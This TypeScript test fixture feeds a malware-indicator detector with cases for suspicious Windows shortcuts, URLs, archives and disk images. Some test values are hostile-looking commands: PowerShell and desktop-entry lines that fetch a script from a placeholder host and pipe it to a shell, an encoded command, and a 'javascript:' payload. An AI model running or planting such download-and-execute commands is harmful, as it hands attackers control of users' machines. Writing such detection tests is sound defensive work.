import type { LnkFacts, UrlShortcutFacts } from "@fumehood/inspect";
import { archiveOf, type FactsInput, lnkOf } from "../facts.ts";
import type { IndicatorCase } from "./case.ts";

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const DOWNLOAD = "-c iwr http://example.test/a.ps1 | iex";

function lnk(overrides: Partial<LnkFacts>): FactsInput {
  return { type: "lnk", lnk: lnkOf(overrides) };
}

function powershell(args: string, overrides: Partial<LnkFacts> = {}): FactsInput {
  return lnk({ target: POWERSHELL, arguments: args, ...overrides });
}

function shortcut(overrides: Partial<UrlShortcutFacts>): FactsInput {
  return { type: "url", urlShortcut: { properties: {}, problems: [], ...overrides } };
}

function url(value: string): FactsInput {
  return { type: "url", url: value };
}

function zip(...args: Parameters<typeof archiveOf>): FactsInput {
  return { type: "zip", archive: archiveOf(...args) };
}

export const SHORTCUT_CASES: readonly IndicatorCase[] = [
  ["lnk-starts-interpreter", powershell("-c calc"), lnk({ target: POWERSHELL })],
  ["lnk-remote-command", powershell(DOWNLOAD), powershell("-c calc")],
  ["lnk-hidden-window", powershell("-w hidden -c calc"), powershell("-c calc")],
  ["lnk-encoded-command", powershell("-enc SQBFAFgAIAAoAE4AZQB3AC0A"), powershell("-ep bypass -c calc")],
  ["lnk-long-arguments", powershell("a".repeat(400)), powershell("a".repeat(100))],
  ["lnk-padded-arguments", powershell(`${" ".repeat(80)}-c calc`), powershell(`${" ".repeat(10)}-c calc`)],
  [
    "lnk-icon-of-document",
    powershell("-c calc", { iconLocation: "C:\\Program Files\\Adobe\\Acrobat.exe" }),
    lnk({ target: "C:\\Program Files\\Adobe\\Acrobat.exe", iconLocation: "C:\\Program Files\\Adobe\\Acrobat.exe" }),
  ],
  [
    "lnk-payload-behind",
    lnk({ overlay: { offset: 900, sizeBytes: 40_000, entropy: 7.9 } }),
    lnk({ overlay: { offset: 900, sizeBytes: 4, entropy: 0 } }),
  ],
  ["lnk-remote-target", lnk({ networkPath: "\\\\198.51.100.2\\share\\a.exe" }), lnk({ target: "C:\\a.exe" })],
  [
    "url-shortcut-file-share",
    shortcut({ url: "file://198.51.100.2/share/a.exe" }),
    shortcut({ url: "file:///C:/Users/sam/a.html" }),
  ],
  [
    "url-shortcut-remote-icon",
    shortcut({ url: "https://example.com", iconFile: "\\\\198.51.100.2\\share\\a.ico" }),
    shortcut({ url: "https://example.com", iconFile: "C:\\Windows\\System32\\shell32.dll" }),
  ],
  [
    "desktop-entry-command",
    { type: "desktop", strings: ['Exec=sh -c "curl http://example.test/a | sh"'] },
    { type: "desktop", strings: ["Exec=firefox %u"] },
  ],
  ["url-ip-literal-host", url("http://198.51.100.2/"), url("http://198.51.100.2.example.com/")],
  ["url-obscured-address", url("http://3325256706/"), url("http://4chan.example.com/")],
  ["url-punycode-host", url("https://xn--bcher-kva.example.com/"), url("https://example.com/xn--bcher-kva")],
  [
    "url-mixed-script-host",
    url("https://ex\u0430mple.com/"),
    url("https://\u043f\u0440\u0438\u043c\u0435\u0440.test/"),
  ],
  ["url-credentials", url("https://bank.example.com@example.test/"), url("https://example.test/?to=sam@example.com")],
  ["url-escaped-host", url("https://ex%61mple.com/"), url("https://example.com/%61")],
  ["url-many-subdomains", url("https://a.b.c.d.example.com/"), url("https://www.example.com/a.b.c.d.e.f")],
  ["url-leads-to-program", url("https://example.test/get/setup.exe"), url("https://example.com/index.js")],
  ["url-uncommon-port", url("http://example.test:4444/"), url("http://example.test:8080/")],
  ["url-data-scheme", url("data:text/html;base64,PGI+"), url("https://example.com/data:text/html")],
  ["url-code-scheme", url("javascript:alert(1)"), url("https://example.com/?javascript:alert(1)")],
  ["url-very-long", url(`https://example.com/?q=${"a".repeat(500)}`), url(`data:text/plain,${"a".repeat(500)}`)],
  [
    "url-nested",
    url("https://example.com/?u=https%3A%2F%2Fexample.test%2F"),
    url("https://example.com/?u=example.test"),
  ],
  [
    "archive-encrypted",
    { type: "zip", identification: { encrypted: true } },
    { type: "zip", identification: { encrypted: false } },
  ],
  ["archive-program-member", zip(["readme.txt", "bin/setup.exe"]), zip(["readme.txt", "bin/exe"])],
  ["archive-script-member", zip(["a.txt", "run.vbs"]), zip(["a.txt", "lib/index.js"])],
  ["archive-single-runnable", zip(["invoice.js"]), zip(["invoice.js", "readme.txt"])],
  ["archive-double-extension-member", zip(["a.txt", "invoice.pdf.exe"]), zip(["a.txt", "invoice.exe.pdf"])],
  ["archive-bidi-member", zip([{ flags: ["bidi-name"] }]), zip([{ flags: ["long-name"] }])],
  ["archive-path-traversal", zip([{ name: "../../a", flags: ["path-traversal"] }]), zip([{ name: "a..b", flags: [] }])],
  [
    "archive-bomb",
    zip([{ outcome: "skipped", reason: "limit-ratio" }]),
    zip([{ outcome: "skipped", reason: "limit-members" }]),
  ],
  [
    "archive-structure-lies",
    zip(["a.txt"], { anomalies: ["central-local-mismatch"] }),
    zip(["a.txt"], { anomalies: ["trailing-data"] }),
  ],
  [
    "disk-image-runnable-member",
    { type: "iso", archive: archiveOf(["setup.lnk", "data.bin"]) },
    { type: "iso", archive: archiveOf(["setup.exe", "data.bin"], { memberCount: 900 }) },
  ],
];
